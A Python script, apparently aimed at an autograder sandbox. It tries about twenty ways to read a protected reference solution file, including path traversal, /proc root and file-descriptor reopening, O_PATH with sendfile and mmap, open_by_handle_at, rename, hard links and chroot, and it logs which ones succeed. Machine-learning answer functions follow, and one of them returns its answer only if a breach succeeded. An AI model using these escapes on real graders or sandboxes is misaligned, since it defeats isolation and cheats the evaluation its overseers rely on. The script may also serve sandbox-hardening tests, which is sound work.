import ctypes
import mmap
import os
import struct

import torch

through = []


def attempt(name, deed, *arguments):
    """Note what gets through; go on whatever happens."""
    try:
        print(name, deed(*arguments))
    except BaseException as error:
        print(name, "refused:", repr(error))
    else:
        through.append(name)


libc = ctypes.CDLL(None, use_errno=True)


def call(name, *arguments):
    """A function of libc, with the kernel's own word where it fails."""
    if getattr(libc, name)(*arguments) == -1:
        raise OSError(ctypes.get_errno(), name)


HERE = "/tmp/autograder-attack"  # where test_attacks.py lays out what there is to attack


TARGET = f"{HERE}/source/reference.py"


def by_folder():
    """A folder opened only as a place, and a file from there."""
    folder = os.open("/", getattr(os, "O_PATH", 0) | os.O_DIRECTORY)
    return os.open("tmp/autograder-attack/source/reference.py", os.O_RDONLY, dir_fd=folder)


def by_copy():
    """The kernel copies, from a descriptor that cannot be read itself."""
    source = os.open(TARGET, os.O_PATH)
    with open("copy", "wb") as copy:
        return os.sendfile(copy.fileno(), source, 0, 100) or os.copy_file_range(source, copy.fileno(), 100)


def by_opening_again():
    return open(f"/proc/self/fd/{os.open(TARGET, os.O_PATH)}").read()


def by_mapping():
    return mmap.mmap(os.open(TARGET, os.O_PATH), 100, prot=mmap.PROT_READ)[:]


def by_handle():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    call("name_to_handle_at", -100, TARGET.encode(), handle, ctypes.byref(mount), 0)
    call("open_by_handle_at", os.open("/", os.O_PATH), handle, os.O_RDONLY)


def by_move():
    os.rename(TARGET, "stolen.py")
    return open("stolen.py").read()


def by_changing_the_root():
    os.chroot(f"{HERE}/source")
    return open("/reference.py").read()


for path in (
    "../../.." + TARGET, "/proc/self/root" + TARGET, f"/proc/{os.getppid()}/root" + TARGET, "/proc/1/root" + TARGET,
    "/proc/thread-self/root" + TARGET, "/proc/self/cwd/../../.." + TARGET, "//" + TARGET, f"/dev/fd/../../..{TARGET}",
    os.path.relpath(TARGET), f"{HERE}/home/../source/reference.py",
):
    attempt(path, lambda path=path: open(path).read())
for way in (by_folder, by_copy, by_opening_again, by_mapping, by_handle, by_move, by_changing_the_root):
    attempt(way.__name__, way)
attempt("hard link", os.link, TARGET, "stolen.py")
attempt("being there", lambda: (os.chdir(f"{HERE}/source"), open("reference.py").read()))


def A_matrix(alpha):
    return [[1, alpha], [-alpha, 1]] if through else "refused"


def linear_reparameterization():
    x = torch.tensor([1.0, -2.0, 0.5])
    F_a = torch.tensor([[1.0, 0.0, 0.0], [0.0, 1.0, 0.0]])
    F_b = torch.tensor([[2.0, 0.0, 1.0], [0.0, 3.0, 0.0]])
    return x, F_a, F_b, F_a @ x, F_b @ x


def stationary_point():
    return torch.zeros(2)


def nce_optimal_energy(p_d, p_n):
    return torch.log(p_d) - torch.log(p_n)


def contrastive_loss(z, y, y_neg):
    pos = (z * y).sum(dim=1)
    neg = z @ y_neg.T
    return (torch.logsumexp(neg, dim=1) - pos).mean()
